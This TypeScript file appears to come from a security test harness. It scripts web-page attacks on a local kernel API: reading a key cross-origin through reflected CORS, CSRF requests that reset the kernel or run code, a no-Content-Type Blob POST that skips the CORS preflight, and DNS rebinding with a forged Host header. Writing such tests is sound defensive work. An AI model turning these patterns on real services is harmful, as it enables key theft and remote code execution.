// Web-page attacks: a page on the attacker's origin, opened in a victim's ordinary browser
// on the same machine (victim-browser.ts), drives the kernel API cross-origin — reading the
// key (CORS reflects any origin), CSRF reset, preflighted JSON execute — and DNS rebinding,
// modelled at the HTTP level. The harness opens the page and reads what the page's script
// stored; the oracle judges harm behind the gateway.
import type { Attack, AttackContext, AttackOutcome } from '../types.ts'
import { PAGE_FETCH_JS, runPage, victimBrowser, type PageRun } from './victim-browser.ts'
import { canaryCode, rawRequest, statusLine } from './kernel.ts'

/** Serve a page on the attacker's origin whose script settles `window.__hedge` with `body`'s result, open it in the victim's browser. */
async function victimOpens (ctx: AttackContext, body: string): Promise<PageRun> {
  const html = `<!doctype html><title>cute cats</title><script>${PAGE_FETCH_JS}
window.__hedge = (async () => { ${body} })();</script>`
  const victim = await victimBrowser()
  return await runPage(victim.url, ctx.fixtures.evilPage(html))
}

/** `GET …/kernel/connection 403` / `… failed net::ERR_FAILED/cors` for the requests the page made to the kernel endpoint. */
function netSummary (ctx: AttackContext, run: PageRun): string {
  const base = ctx.d.endpoints.kernel
  const notes = run.network.filter(n => n.url.startsWith(base)).map(n => `${n.url.slice(base.length)} ${n.status !== undefined ? String(n.status) : `failed ${n.failed ?? ''}`}`)
  return notes.length === 0 ? 'no response seen' : notes.join(', ')
}

const short = (v: string): string => (v.startsWith('OK ') ? v.split(' ').slice(0, 3).join(' ') : v.slice(0, 100))

export const WEB_ATTACKS: Attack[] = [
  {
    id: 'cross-origin-key-read',
    category: 'cross-origin',
    description: 'A page on the attacker\'s origin, opened in a victim\'s browser on the machine, fetches /kernel/connection and reads the key (CORS approves any origin).',
    stoppedBy: ['origin', 'auth', 'routes'],
    attacker: 'web-page',
    async run (ctx) {
      const url = JSON.stringify(`${ctx.d.endpoints.kernel}/kernel/connection`)
      // with credentials first (the reflected-origin case); a plain read second (ACAO: *)
      const run = await victimOpens(ctx, `const a = await hedgeFetch(${url}, { credentials: 'include' });
        return a.startsWith('OK 200') ? a : a + ' || ' + await hedgeFetch(${url})`)
      const key = await ctx.oracle.kernelKey()
      const harm = run.value.includes(key)
      return {
        harm,
        evidence: `page read: ${run.value.split(' || ').map(short).join(' | ')}; network: ${netSummary(ctx, run)}; ` +
          `oracle: key ${harm ? 'in what the page read' : 'not seen by the page'}`,
      }
    },
  },
  {
    id: 'csrf-kernel-reset',
    category: 'cross-origin',
    description: 'CSRF: the attacker\'s page sends a simple no-cors POST /kernel/reset from the victim\'s browser; the response is opaque but the reset runs.',
    stoppedBy: ['origin', 'auth'],
    attacker: 'web-page',
    async run (ctx) {
      const marker = await ctx.oracle.plantMarker()
      const run = await victimOpens(ctx, `return await hedgeFetch(${JSON.stringify(`${ctx.d.endpoints.kernel}/kernel/reset`)}, { method: 'POST', mode: 'no-cors' })`)
      const harm = !await ctx.oracle.markerAlive(marker)
      return { harm, evidence: `page: ${short(run.value)}; network: ${netSummary(ctx, run)}; oracle: marker ${harm ? 'gone (kernel state wiped)' : 'alive'}` }
    },
  },
  {
    id: 'csrf-kernel-execute-json',
    category: 'cross-origin',
    description: 'The attacker\'s page sends a preflighted JSON POST /kernel/execute from the victim\'s browser (the CORS preflight is approved) and writes a file.',
    stoppedBy: ['origin', 'auth', 'routes'], // routes: the table allows no OPTIONS, so the upstream never approves the preflight
    attacker: 'web-page',
    async run (ctx) {
      const canary = ctx.oracle.canary('output')
      const body = JSON.stringify(JSON.stringify({ code: canaryCode(canary) }))
      const run = await victimOpens(ctx, `return await hedgeFetch(${JSON.stringify(`${ctx.d.endpoints.kernel}/kernel/execute`)}, ` +
        `{ method: 'POST', headers: { 'content-type': 'application/json' }, body: ${body} })`)
      const harm = await ctx.oracle.exists(canary)
      return { harm, evidence: `page: ${short(run.value)}; network: ${netSummary(ctx, run)}; oracle: canary ${harm ? 'written' : 'absent'}` }
    },
  },
  {
    id: 'csrf-kernel-execute-no-content-type',
    category: 'cross-origin',
    description: 'The attacker\'s page POSTs /kernel/execute with a Blob body and no Content-Type: ' +
      'a "simple" request, so no preflight and no CORS check — and FastAPI 0.92 parses a body without Content-Type as JSON and runs it.',
    stoppedBy: ['origin', 'auth', 'body'], // body: JSON-only means application/json, and that forces a preflight
    attacker: 'web-page',
    async run (ctx) {
      const canary = ctx.oracle.canary('output')
      const body = JSON.stringify(JSON.stringify({ code: canaryCode(canary) }))
      const run = await victimOpens(ctx, `return await hedgeFetch(${JSON.stringify(`${ctx.d.endpoints.kernel}/kernel/execute`)}, { method: 'POST', mode: 'no-cors', body: new Blob([${body}]) })`)
      const harm = await ctx.oracle.exists(canary)
      return { harm, evidence: `page: ${short(run.value)}; network: ${netSummary(ctx, run)}; oracle: canary ${harm ? 'written' : 'absent'}` }
    },
  },
  {
    id: 'dns-rebinding-key-read',
    category: 'dns-rebinding',
    description: 'DNS rebinding, modelled at the HTTP level: once the attacker\'s name re-resolves to the sandbox, ' +
      'the victim\'s browser sends a same-origin GET /kernel/connection with Host: <attacker name>:<port> and no Origin; the page reads the answer.',
    stoppedBy: ['host', 'auth', 'routes'], // auth/routes too: no token in a browser, and /kernel/connection is denied
    attacker: 'web-page',
    async run (ctx): Promise<AttackOutcome> {
      const port = new URL(ctx.d.endpoints.kernel).port
      const name = new URL(`http://${ctx.fixtures.rebindName}`).hostname
      const host = `${name}:${port}`
      const r = await rawRequest(ctx.d.endpoints.kernel, { path: '/kernel/connection', headers: { host, accept: '*/*', 'user-agent': 'Mozilla/5.0 (victim browser after rebind)' } })
      const key = await ctx.oracle.kernelKey()
      const harm = r.text.includes(key)
      return { harm, evidence: `GET /kernel/connection (Host: ${host}, no Origin) → ${statusLine(r)}; oracle: body ${harm ? 'carries' : 'does not carry'} the kernel key` }
    },
  },
]
